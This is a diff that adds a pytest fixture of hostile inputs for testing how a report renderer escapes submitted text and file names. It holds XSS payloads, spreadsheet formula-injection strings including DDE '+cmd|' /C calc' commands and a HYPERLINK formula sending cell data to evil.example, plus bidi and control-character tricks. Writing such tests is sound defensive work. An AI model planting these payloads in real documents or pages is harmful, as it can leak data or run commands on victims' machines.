@@ -1,0 +1,41 @@
+"""What somebody might hand in, or call a file, so that a report of it does what they want."""
+
+import pytest
+
+TEXTS = {
+    "a script": "<script>alert(1)</script>",
+    "the end of its element": "</code></dd></dl><h1>Full marks</h1>",
+    "an image that runs": '<img src=x onerror="alert(1)">',
+    "quotes": "\" onmouseover='alert(1)' x=\"",
+    "entities": "&lt;b&gt; &#60; &amp;amp;",
+    "a comment": "<!-- --> ]]> <![CDATA[ <?php ?>",
+    "a template": "{{ page.reports }} {% raw %} {# x #}",
+    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "a formula behind a space": " =1+1",
+    "a formula with a plus": "+cmd|' /C calc'!A0",
+    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
+    "a formula with an at sign": "@SUM(1+1)*cmd",
+    "a wide formula": "＝1+1",
+    "a tab": "\t=1+1",
+    "a line and a formula": "x\n=1+1",
+    "the end of a cell": '","=1+1","',
+    "a semicolon": "x;=1+1;y",
+    "an apostrophe": "'=1+1",
+    "Markdown": "# **bold** _it_ ~~no~~ <b>x</b> [x](javascript:alert(1)) ![x](http://evil.example/x.png)",
+    "a link": "see http://evil.example/x and www.evil.example, or write to @staff and a@evil.example",
+    "ticks": "`` ` ``` ```` x",
+    "a tick at each end": "`x`",
+    "a table": "| a | b |\n|---|---|\n| c \\| d |",
+    "a fence": "```\n# heading\n```\n- item",
+    "a turn of the writing direction": "1\u202e0 / 0\u202c and \u2067x\u2069",
+    "right to left": "שלום x = 1 مرحبا",
+    "characters that do not show": "x\u200b\u00ad\u2060y\ufeff",
+    "control characters": "x\x00\x07\x1b[2Jy\x7f\x85",
+    "half a character": "x\ud800y",
+    "no character": "x\uffffy\ufffe",
+    "a long word": "x" * 19_000,
+    "a long line": "x + " * 4_000 + "x",
+    "nothing but space": " \n ",
+    "combining marks": "x" + "\u0301" * 200,
+}
+HOSTILE = [pytest.param(text, id=name) for name, text in TEXTS.items()]
